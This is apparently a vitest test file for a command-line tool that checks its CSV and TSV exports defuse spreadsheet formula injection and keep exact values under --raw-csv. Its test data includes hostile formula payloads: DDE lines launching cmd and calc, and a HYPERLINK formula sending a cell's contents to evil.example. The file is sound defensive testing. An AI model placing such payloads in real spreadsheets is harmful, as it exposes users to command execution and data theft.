import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import { writeCsvLine, writeTsvLine } from "../../src/terminal/formats/delimited.ts";
import { countFaults } from "../support/commands/fault-count.ts";
import { openTome } from "../support/commands/tome.ts";
import { amount, report, slowTest } from "../support/generators/amount.ts";
import { randomFrom } from "../support/generators/random.ts";
import { answerJson, serve } from "../support/network/loopback.ts";

const count = amount({ short: 160, full: 500 });
const beginnings = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"] as const;
const formulas = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"open")',
  "SUM(A1:A9)*2",
  "x\n=1+1",
  "a;=1+1",
  "a,=1+1",
  'a\t=1+1"',
  '"=1+1',
  'DDE("cmd";"/C calc";"x")',
  "",
];
/** Cells that a spreadsheet may execute, by its own rules. */
const dangerous = /^[=+\-@\t\r\n＝＋－＠]/;

function titles(): { readonly all: readonly string[]; readonly seed: unknown } {
  const random = randomFrom();
  const all = Array.from({ length: count }, (_, index) => {
    const text = `${beginnings[index % beginnings.length]}${random.pick(formulas)}`;
    return index % 7 === 0 ? `"${text}"` : text;
  });
  return { all, seed: random.seed };
}

async function listed(all: readonly string[]) {
  const items = all.map((title, index) => ({ object: "space", id: `S${index}`, title }));
  const { url } = await serve((_, response) => answerJson(response, 200, { items }));
  const tome = openTome();
  const env = { TOME_BASE_URL: url, TOME_TOKEN: "t", TOME_ORG: "O1" };
  return async (flags: string) => {
    const { code, stdout } = await tome(`space list --all ${flags}`, { env });
    expect([flags, code]).toEqual([flags, 0]);
    return stdout;
  };
}

/** Parses the cells like a spreadsheet. */
function formulasIn(text: string, delimiter: string): string[] {
  const rows: string[][] = parse(text, { delimiter, relax_column_count: true, relax_quotes: true });
  expect(rows.length).toBeGreaterThanOrEqual(count);
  return rows.flat().filter((cell) => dangerous.test(cell));
}

slowTest("no cell of CSV or TSV is a formula, and --raw-csv is exact", async () => {
  const { all, seed } = titles();
  const formulas = countFaults();
  const list = await listed(all);
  const shown = all.map((title) => title.replaceAll("\r", "\\u{d}"));

  const csv = await list("--format csv");
  expect([seed, formulas.add(formulasIn(csv, ","))]).toEqual([seed, []]);
  const rows: Record<string, string>[] = parse(csv, { columns: true });
  expect(rows.map(({ title }) => title)).toEqual(
    shown.map((title, index) => (dangerous.test(all[index] ?? "") ? `'${title}` : title)),
  );

  const tsv = await list("--format tsv");
  expect([seed, formulas.add(formulasIn(tsv, "\t"))]).toEqual([seed, []]);

  const exact: Record<string, string>[] = parse(await list("--format csv --raw-csv"), {
    columns: true,
    record_delimiter: "\r\n",
  });
  expect(exact.map(({ title }) => title)).toEqual(all);
  expect(titlesIn(await list("--format tsv --raw-csv"))).toEqual(all);
  // A program gets exact values; only terminal control characters are made visible.
  expect(titlesIn(await list(""))).toEqual(shown);
  report(
    "H8",
    `${count} cells, ${formulas.total()} formulas in CSV and TSV, all exact by --raw-csv`,
  );
});

test("negative numbers stay numbers", () => {
  const cells = [
    { text: "-3", value: -3 },
    { text: "-9007199254740993", value: -9007199254740993n },
    { text: "-3", value: "-3" },
  ];
  expect(writeCsvLine(cells, "harmless")).toBe("-3,-9007199254740993,'-3\r\n");
  expect(writeTsvLine(cells, "harmless")).toBe("-3\t-9007199254740993\t'-3\n");
});

/** The second column, with escaped tabs, line breaks and backslashes decoded. */
function titlesIn(text: string): string[] {
  const back: Record<string, string> = { "\\\\": "\\", "\\t": "\t", "\\n": "\n" };
  return text
    .split("\n")
    .slice(0, -1)
    .map((line) =>
      (line.split("\t")[1] ?? "").replace(/\\[\\tn]/g, (escaped) => back[escaped] ?? ""),
    );
}
